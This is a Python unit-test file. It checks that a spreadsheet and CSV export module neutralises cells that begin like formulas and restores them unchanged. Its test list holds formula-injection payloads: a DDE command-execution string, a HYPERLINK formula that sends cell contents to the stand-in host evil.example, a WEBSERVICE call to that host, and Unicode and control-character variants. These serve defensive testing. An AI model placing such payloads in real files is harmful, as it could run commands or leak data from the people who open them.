"""T15: what a spreadsheet would calculate is a text in every table that leaves us, and can be had back unchanged.

The format itself: tests/unit/printing/test_xlsx.py; the errors file of an import: tests/unit/test_importing_reading.py.
"""

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path
from zipfile import ZipFile

import pytest

from bot.importing.reading import neutralised, read_table
from platforms.printing.xlsx import Table, neutral, original

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"同意")',
    '=WEBSERVICE("http://evil.example")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "'=1+1",
]
DANGER = re.compile(r"^[=+\-@\t\r\n\0＝＋－＠]")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_begins_like_a_formula_or_is_one(text: str) -> None:
    out = io.BytesIO()
    with Table(out, text, ["姓名", text], datetime(2026, 11, 23, tzinfo=UTC)) as table:
        table.add([text, "张伟"])
    with ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        parts = "".join(book.read(each).decode() for each in book.namelist())
    cells = re.findall(r'<t xml:space="preserve">(.*?)</t>', sheet, re.DOTALL)
    assert [each for each in cells[3:] if DANGER.match(each)] == []
    assert not re.search(r"<f\b|<hyperlink|externalLink|ddeLink", parts)
    assert original(neutral(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_the_errors_file_gives_back_what_came_and_calculates_nothing(text: str, tmp_path: Path) -> None:
    file = tmp_path / "in.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["candidate", "phone"], [text, "x"]])
    kept = read_table(file).rows[0].cells[0]
    written = neutralised(kept)
    assert not DANGER.match(written) or text[:1] in "\r\n"
    again = tmp_path / "again.csv"
    with again.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["candidate", "phone"], [written, "x"]])
    assert read_table(again).rows[0].cells[0] == kept
